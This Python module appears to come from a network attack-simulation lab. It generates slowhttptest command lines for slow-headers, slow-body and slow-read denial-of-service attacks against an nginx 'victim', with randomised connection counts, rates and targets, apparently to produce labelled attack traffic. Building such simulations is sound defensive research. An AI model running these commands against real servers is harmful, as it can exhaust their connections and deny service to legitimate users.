# SPDX-License-Identifier: Apache-2.0
"""Slow HTTP with slowhttptest: headers, bodies and reads that never end."""

from __future__ import annotations

from random import Random

from lab.scenarios.attack.targets import ip_version, victim_with
from lab.scenarios.scenario import TCP, Attack, AttackDraft, DrawAttack, Scene


def _slow(name: str, mode: str) -> DrawAttack:
    def draw(scene: Scene, chance: Random) -> AttackDraft | None:
        victim = victim_with(scene, chance, "nginx")
        if victim is None:
            return None
        tls, version = chance.random() < 0.25, ip_version(chance)
        port = scene.network.tls_port if tls else scene.network.web_port
        connections = chance.randint(15, 40) if scene.gentle else chance.randint(20, 150)
        rate, interval, length = chance.choice((2, 5, 15, 40)), chance.choice((2, 5, 10)), chance.randint(20, 50)
        url = scene.url(victim, tls, "/d/900.iso" if mode == "-X" else "/app/login", version)
        extra = (
            f"-w {chance.randint(10, 60)} -y {chance.randint(70, 300)} -n {chance.randint(1, 5)} -z 32 -k 1"
            if mode == "-X"
            else f"-x {chance.randint(8, 60)}"
        )
        command = (
            f"cd /tmp && slowhttptest {mode} -c {connections} -r {rate} -i {interval} -l {length} {extra} -p 3 -u {url}"
        )
        return AttackDraft(
            "slow_http",
            "slowhttptest",
            f"{name}; connections={connections}; rate={rate}; interval={interval}s",
            command,
            length + 12,
            (scene.leg(victim, version, TCP, port),),
        )

    return draw


ATTACKS = (
    Attack("slow-headers", _slow("headers", "-H"), weight=2),
    Attack("slow-body", _slow("body", "-B"), weight=2),
    Attack("slow-read", _slow("read", "-X")),
)
